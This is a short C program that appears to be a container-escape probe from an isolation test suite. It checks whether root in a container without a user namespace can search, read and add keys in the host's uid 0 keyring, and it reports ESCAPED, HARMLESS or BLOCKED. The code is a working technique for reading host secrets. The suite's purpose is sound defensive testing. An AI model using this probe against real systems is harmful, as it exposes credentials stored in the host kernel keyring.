/* Kernel keyrings are not namespaced: root in a container without a user
 * namespace shares uid 0's user keyring with the host. Search it for the
 * key the host test added, read it, and add one of our own. */
#include "attack.h"

#define KEY_SPEC_USER_KEYRING -4
#define KEY_SPEC_SESSION_KEYRING -3
#define KEYCTL_GET_KEYRING_ID 0
#define KEYCTL_READ 11
#define KEYCTL_SEARCH 10

int main(void) {
    protocol_init("keyctl");
    const char *desc = param("ATTACK_KEY"), *secret = param("ATTACK_SECRET"), *added = param("ATTACK_ADD_KEY");
    long s = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    int es = s < 0 ? errno : 0;
    info("session keyring: %s", ename(es));
    long k = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", desc, 0);
    int ek = k < 0 ? errno : 0;
    info("search host key: %s", ename(ek));
    if (k >= 0) {
        char buf[256] = {0};
        long n = syscall(SYS_keyctl, KEYCTL_READ, k, buf, sizeof buf - 1);
        info("read host key: %s", n < 0 ? ename(errno) : "OK");
        if (n > 0 && strstr(buf, secret)) { verdict("ESCAPED", "read the host's key from uid 0's user keyring"); return 0; }
        verdict("ESCAPED", "found the host's key in uid 0's user keyring");
        return 0;
    }
    long a = syscall(SYS_add_key, "user", added, "x", 1, KEY_SPEC_USER_KEYRING);
    int ea = a < 0 ? errno : 0;
    info("add_key to the user keyring: %s", ename(ea));
    if (a >= 0) { verdict("ESCAPED", "added a key to uid 0's user keyring"); return 0; }
    if (es == 0)
        verdict("HARMLESS", "keyctl works on a keyring of its own; the host's keys are out of reach (%s)", ename(ek));
    else
        verdict("BLOCKED", "keyctl and add_key refused (%s)", ename(ek));
    return 0;
}
